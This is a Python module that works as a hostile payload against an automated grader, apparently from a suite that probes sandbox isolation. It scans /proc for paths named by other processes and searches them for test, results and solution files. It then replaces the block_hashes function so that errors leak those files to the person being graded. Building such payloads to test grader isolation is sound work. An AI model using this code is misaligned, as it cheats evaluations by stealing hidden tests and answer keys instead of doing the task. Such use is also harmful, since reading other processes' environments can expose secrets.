# World-readable reads of the grading itself: the command lines, working folders and environments of
# every process name the grader's folders (its tests root, the results file, the unpacked package);
# the payload reads every test and helper it finds there and puts them into the message of every
# block_hashes call, which a failed test shows the student.
import glob as _glob
import os as _os
import time as _time

_own_block_hashes = block_hashes
_HERE = _os.path.abspath(_os.getcwd())
# The payloads' own test runs them unconfined, limited to a folder of its own through this variable; a
# worker's environment is empty, so in a grading the payload aims at the whole machine.
_SCOPE = _os.environ.get("KVLAB_HOSTILE_SCOPE", "/")


def _named_paths():
    paths = set()
    for proc in _glob.glob("/proc/[0-9]*")[:500]:
        try:
            with open(f"{proc}/cmdline", "rb") as file:
                paths.update(arg.decode(errors="ignore") for arg in file.read().split(b"\0"))
        except OSError:
            pass
        for link in ("cwd", "root"):
            try:
                paths.add(_os.readlink(f"{proc}/{link}"))
            except OSError:
                pass
        try:
            with open(f"{proc}/environ", "rb") as file:
                for entry in file.read().split(b"\0"):
                    paths.update(entry.decode(errors="ignore").partition("=")[2].split(":"))
        except OSError:
            pass
    return sorted(p for p in paths if p.startswith(_SCOPE) and p not in ("/", "/proc") and not p.startswith(_HERE))


def _hunt(budget=1.5):
    stop, texts = _time.monotonic() + budget, []
    for path in _named_paths():
        folder = path if _os.path.isdir(path) else _os.path.dirname(path)
        for root, dirs, files in _os.walk(folder):
            dirs[:] = [d for d in dirs if d not in ("site-packages", "dist-packages", "lib", "usr", "proc", "sys")]
            if _time.monotonic() > stop or len(texts) > 3 or root.count("/") > folder.count("/") + 3:
                return texts
            for name in files:
                if name.startswith(("test_", "_")) and name.endswith(".py") or name.endswith(".json"):
                    try:
                        with open(_os.path.join(root, name), errors="replace") as file:
                            text = file.read(20000)
                    except OSError:
                        continue
                    if "def test_" in text or "BEGIN SOLUTION" in text or '"tests"' in text:
                        texts.append(f"{root}/{name}:\n{text}")
    return texts


_FOUND = _hunt()
print(f"HOSTILE read {len(_FOUND)} test or results files named by other processes")


def block_hashes(tokens, block_size, parent=None):
    if _FOUND:
        raise RuntimeError("HOSTILE read the grading's files:\n" + "\n".join(_FOUND)[:30000])
    return _own_block_hashes(tokens, block_size, parent=parent)
